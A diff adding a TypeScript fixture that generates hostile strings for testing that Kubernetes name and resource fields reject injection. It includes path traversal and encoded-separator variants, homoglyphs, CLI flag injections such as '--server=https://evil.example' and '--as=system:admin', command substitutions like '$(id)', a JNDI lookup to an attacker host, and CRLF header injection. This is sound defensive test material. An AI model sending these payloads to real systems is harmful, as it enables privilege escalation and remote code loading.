@@ -1,0 +1,76 @@
+/** A thousand and more spellings that must never reach an API server as a name, a namespace, a kind or a resource. */
+const TARGETS = ['exec', 'attach', 'portforward', 'proxy', 'token', 'ephemeralcontainers']
+const SEPARATORS = [
+  '/',
+  '%2F',
+  '%2f',
+  '%252F',
+  '\\',
+  '\u2215',
+  '\u2044',
+  '\uff0f',
+  '/./',
+  '//',
+  ';/',
+  '?',
+  '#',
+  '%5c',
+  '\u0000/',
+]
+const PREFIXES = ['pods', 'web-1', 'Pods', 'p\u043eds', 'pod\u0455', '\uff50ods', 'pods\u200b', 'pods\u202e']
+const CLIMBS = ['..', '.', '../', '..%2f', '%2e%2e', '%2e%2e/', '..\\', '....//', '\u2024\u2024/', '.%00./']
+const OPTIONS = [
+  '--server=https://evil.example',
+  '--kubeconfig=/etc/passwd',
+  '-n',
+  '--as=system:admin',
+  '-o=yaml',
+  '--token=x',
+  '--raw=/',
+  '\u2013\u2013server',
+]
+const ODDITIES = [
+  '',
+  ' ',
+  '*',
+  'a b',
+  'a\tb',
+  'a\nb',
+  'a\r\nX-Header: 1',
+  '\u0000',
+  'a\u0000',
+  '\u001b[31mweb',
+  '$(id)',
+  '`id`',
+  '{{7*7}}',
+  '$' + '{jndi:ldap://evil.example}',
+  "'; --",
+  '<script>',
+  'https://evil.example/',
+  '//evil.example',
+  '@evil.example/..',
+  'web?watch=true',
+  'web#',
+  'web%00',
+  '\ud800',
+  '\u{1f4a9}',
+  '\u{e0061}\u{e0062}',
+  'a'.repeat(300),
+  `${'a.'.repeat(150)}a`,
+  '-web',
+  '_web',
+  '.web',
+  '\u0430dmin',
+]
+
+export const HOSTILE: readonly string[] = [
+  ...new Set([
+    ...PREFIXES.flatMap((prefix) => SEPARATORS.flatMap((it) => TARGETS.map((target) => `${prefix}${it}${target}`))),
+    ...CLIMBS.flatMap((climb) => TARGETS.flatMap((target) => [`${climb}${target}`, `web/${climb}/${target}`])),
+    ...CLIMBS,
+    ...OPTIONS.flatMap((option) => [option, ` ${option}`, `web ${option}`]),
+    ...TARGETS.flatMap((target) => ['\u200b', '\u202e', '\u00a0', '\u0300', '\ufe0f'].map((it) => `${it}${target}`)),
+    ...TARGETS.flatMap((target) => [...'%?#&=+;,|<>"\'`$ '].map((it) => `${it}${target}${it}`)),
+    ...ODDITIES,
+  ]),
+]
